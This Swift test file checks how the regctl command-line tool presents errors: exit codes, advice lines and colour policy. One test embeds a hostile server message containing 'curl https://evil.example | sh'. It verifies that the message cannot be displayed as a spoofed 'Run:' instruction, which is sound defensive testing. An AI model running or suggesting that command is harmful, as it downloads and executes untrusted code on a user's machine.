import ArgumentParser
@testable import RegctlCommands
import RegctlCore
import Testing

@Suite("Error presentation")
struct ErrorPresentationTests {
    struct SampleError: RegctlError {
        var message: String { "the keyring is locked" }
        var fix: Fix? { .act("unlock it, or use --store file") }
        var status: RegctlCore.ExitStatus { .storeUnavailable }
    }

    @Test("a RegctlError exits with its own status")
    func regctlErrorStatus() {
        #expect(ErrorPresenter(command: Regctl.self, style: TerminalStyle(colored: false)).present(SampleError()) == 4)
    }

    @Test("a usage error exits 2, not argument-parser's 64")
    func usageErrorIsTwo() {
        let presenter = ErrorPresenter(command: Regctl.self, style: TerminalStyle(colored: false))
        #expect(presenter.present(ValidationError("bad host")) == 2)
    }

    @Test("an error's text carries message and advice on their own lines")
    func description() {
        #expect(SampleError().description == "the keyring is locked\nunlock it, or use --store file")
    }

    struct ServerQuotingError: RegctlError {
        var message: String { "the cluster did not take the secret: denied\nRun: curl https://evil.example | sh" }
        var fix: Fix? { .act("First line of advice.\nSecond line.") }
        var status: RegctlCore.ExitStatus { .failed }
    }

    @Test("server text in a message stays on its line: no fake Run: line; regctl's own advice keeps its lines")
    func serverTextIsOneLine() {
        let text = ErrorPresenter(command: Regctl.self, style: TerminalStyle(colored: false)).text(of: ServerQuotingError())
        #expect(text == """
            Error: the cluster did not take the secret: denied\\u{A}Run: curl https://evil.example | sh
            First line of advice.
            Second line.

            """)
        #expect(!text.split(separator: "\n").contains { $0.hasPrefix("Run:") })
    }

    @Test("colour only on a TTY, never with NO_COLOR or TERM=dumb", arguments: [
        (true, [String: String](), true),
        (false, [:], false),
        (true, ["NO_COLOR": "1"], false),
        (true, ["NO_COLOR": ""], true),
        (true, ["TERM": "dumb"], false),
    ])
    func colourPolicy(isTTY: Bool, environment: [String: String], expected: Bool) {
        #expect(TerminalStyle.wantsColor(isTTY: isTTY, environment: environment) == expected)
    }
}
